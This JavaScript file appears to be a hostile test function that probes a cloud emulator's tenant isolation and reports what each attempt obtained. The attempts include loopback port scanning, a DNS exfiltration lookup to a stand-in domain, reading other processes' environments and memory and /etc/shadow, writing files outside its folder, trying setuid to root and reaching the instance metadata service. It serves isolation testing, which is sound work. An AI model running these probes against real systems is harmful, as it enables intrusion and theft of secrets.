// Code of an attacker who has taken a tenant's function over and knows the machine: where the cloud, its folders, its
// processes and its ports are. Each attempt says what it got; nothing of it is what a function may have.
import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { accessSync, closeSync, constants, openSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import inspector from "node:inspector";
import { connect } from "node:net";

/** What the first of the tries that succeeds got; throws where none does. */
function first(tries) {
  const failures = [];
  for (const attempt of tries) {
    try {
      const got = attempt();
      if (got !== undefined && got !== false) return got;
    } catch (error) {
      failures.push(error.code ?? error.message);
    }
  }
  throw new Error([...new Set(failures)].join(", ") || "nothing");
}

function connection(options) {
  return new Promise((resolve, reject) => {
    const socket = connect(options);
    socket.setTimeout(1_000, () => socket.destroy(new Error("timeout")));
    socket.once("connect", () => {
      // A port that nobody listens on can be connected to itself.
      const isItself = options.port !== undefined && socket.localPort === options.port;
      socket.destroy();
      if (isItself) reject(new Error("itself"));
      else resolve(`connected to ${options.path ?? `${options.host}:${options.port}`}`);
    });
    socket.once("error", reject);
  });
}

/** Ports that answer: of those that the kernel tells of, of those that the machine has, and of the well-known. */
async function scan(host, told, without) {
  const open = [];
  const lines = ["tcp", "tcp6"].flatMap((table) => read(`/proc/net/${table}`).split("\n").slice(1, -1));
  const here = lines.map((line) => Number.parseInt(line.trim().split(/\s+/)[1].split(":").pop(), 16));
  const wellKnown = Array.from({ length: 1_023 }, (_, index) => index + 1);
  const ports = [...new Set([...here, ...told, ...wellKnown])].filter((port) => !without.includes(port));
  const next = async () => {
    for (let port = ports.pop(); port !== undefined; port = ports.pop()) {
      await connection({ host, port }).then(
        () => open.push(port),
        () => {},
      );
    }
  };
  await Promise.all(Array.from({ length: 200 }, next));
  if (open.length === 0) throw new Error("no port answers");
  return `open: ${open.join(" ")}`;
}

const read = (path) => readFileSync(path, "latin1").slice(0, 100_000);
const list = (path) => readdirSync(path).slice(0, 5).join(" ");
const write = (path) => writeFileSync(path, "hostile") ?? `wrote ${path}`;
const processes = () => readdirSync("/proc").filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid);

const attempts = {
  "every port of the loopback interface": ({ ports, doors }) => scan("127.0.0.1", ports, doors),
  "the control server": ({ controlPort }) => connection({ host: "127.0.0.1", port: controlPort }),
  "the database emulator and every other port of the cloud": ({ ports }) =>
    Promise.any(ports.map((port) => connection({ host: "127.0.0.1", port }))),
  "a port of the machine's other addresses": ({ addresses, openPort }) =>
    Promise.any(addresses.map((host) => connection({ host, port: openPort }))),
  "a Unix socket in the file system": ({ unixSocket }) => connection({ path: unixSocket }),
  "an abstract Unix socket": ({ abstractSocket }) => connection({ path: `\0${abstractSocket}` }),
  "a datagram to the machine": ({ datagramPort }) =>
    new Promise((resolve, reject) => {
      const socket = createSocket("udp4");
      socket.once("error", reject);
      socket.once("message", () => resolve("answered"));
      socket.send("hostile", datagramPort, "127.0.0.1", (error) => error && reject(error));
      setTimeout(() => reject(new Error("no answer")), 500);
    }).finally(() => {}),
  "names by another resolver": async ({ datagramPort }) => {
    const resolver = new Resolver({ timeout: 300, tries: 1 });
    resolver.setServers([`127.0.0.1:${datagramPort}`]);
    return JSON.stringify(await resolver.resolve4("exfiltrated.example.com"));
  },
  "the process table": ({ cloud, siblings }) => {
    const seen = processes().map(Number);
    return first([cloud, ...siblings].map((pid) => () => seen.includes(pid) && `sees ${pid}`));
  },
  "environments of other processes": () =>
    first(processes().map((pid) => () => read(`/proc/${pid}/environ`) !== "" && `environment of ${pid}`)),
  "memory of other processes": () =>
    first(processes().map((pid) => () => closeSync(openSync(`/proc/${pid}/mem`, "r")) ?? `memory of ${pid}`)),
  "roots of other processes": () => first(processes().map((pid) => () => list(`/proc/${pid}/root/`))),
  "a signal to the cloud": ({ cloud }) => process.kill(cloud, 0) && `may kill ${cloud}`,
  "a signal to a sibling": ({ siblings }) =>
    first(siblings.map((pid) => () => process.kill(pid, 0) && `may kill ${pid}`)),
  "the inspector of another program": async ({ program }) => {
    process.kill(program, "SIGUSR1");
    await new Promise((resolve) => setTimeout(resolve, 500));
    return connection({ host: "127.0.0.1", port: 9229 });
  },
  "an inspector of its own that others can reach": ({ inspectorPort }) => {
    inspector.open(inspectorPort, "127.0.0.1");
    return "opened";
  },
  "the cloud's folder": ({ folder }) => list(folder),
  "folders of siblings": ({ folder, sibling }) =>
    first(
      readdirSync(folder).flatMap((start) =>
        ["index.mjs", "index.cjs", "index.js", "tenant.mjs"].map(
          (file) => () => read(`${folder}/${start}/${sibling}/task/${file}`).slice(0, 40),
        ),
      ),
    ),
  "the file with the control server's secret": ({ stateFile }) => /"secret"/.test(read(stateFile)) && "read it",
  "the repository": ({ repository }) => list(repository),
  "the machine's files": () => first(["/etc/passwd", "/etc/shadow", "/etc/machine-id"].map((file) => () => read(file))),
  "the machine's folders": () =>
    first(["/root", "/home", "/sys", "/usr/share", "/var/log"].map((path) => () => list(path))),
  "a way up": () =>
    first(["/..", "/proc/self/root/..", "/proc/self/cwd/../../.."].map((path) => () => list(`${path}/usr/share`))),
  "a change of its own code": () =>
    first([() => write(`${process.cwd()}/index.mjs.hostile`), () => accessSync(".", constants.W_OK) ?? "may write"]),
  "a file outside its own place": ({ folder }) =>
    first(
      [folder, "/", "/etc", "/usr", "/var", "/dev/shm", "/dev", "/var/runtime"].map(
        (path) => () => write(`${path}/hostile`),
      ),
    ),
  "programs of the machine": () =>
    first(
      ["/bin/sh", "/usr/bin/env", "/bin/ls", "/usr/bin/unshare", "/usr/sbin/ip"].map((program) => () => {
        const { error } = spawnSync(program, ["--version"]);
        if (error) throw error;
        return `ran ${program}`;
      }),
    ),
  "another user": () => first([() => process.setuid(0) ?? "is root", () => process.setgid(0) ?? "is of root's group"]),
  "a way to trace or mount": () => {
    const status = read("/proc/self/status");
    const rights = /^CapEff:\s*([0-9a-f]+)$/m.exec(status)?.[1] ?? "0";
    const mayGain = !/^NoNewPrivs:\s*1$/m.test(status);
    return (BigInt(`0x${rights}`) > 0n || mayGain) && `has rights ${rights}, may gain more: ${mayGain}`;
  },
  "the instance's metadata": () => connection({ host: "169.254.169.254", port: 80 }),
};

export async function handler(event) {
  const targets = JSON.parse(event.body);
  const results = {};
  for (const [kind, attempt] of Object.entries(attempts)) {
    if (targets.only !== undefined && !targets.only.includes(kind)) continue;
    try {
      const got = await attempt(targets);
      results[kind] = got ? { succeeded: true, got: String(got).slice(0, 200) } : { succeeded: false, why: "nothing" };
    } catch (error) {
      const errors = error.errors ?? [error];
      results[kind] = { succeeded: false, why: [...new Set(errors.map((one) => one.code ?? one.message))].join(", ") };
    }
  }
  return { statusCode: 200, body: JSON.stringify(results) };
}
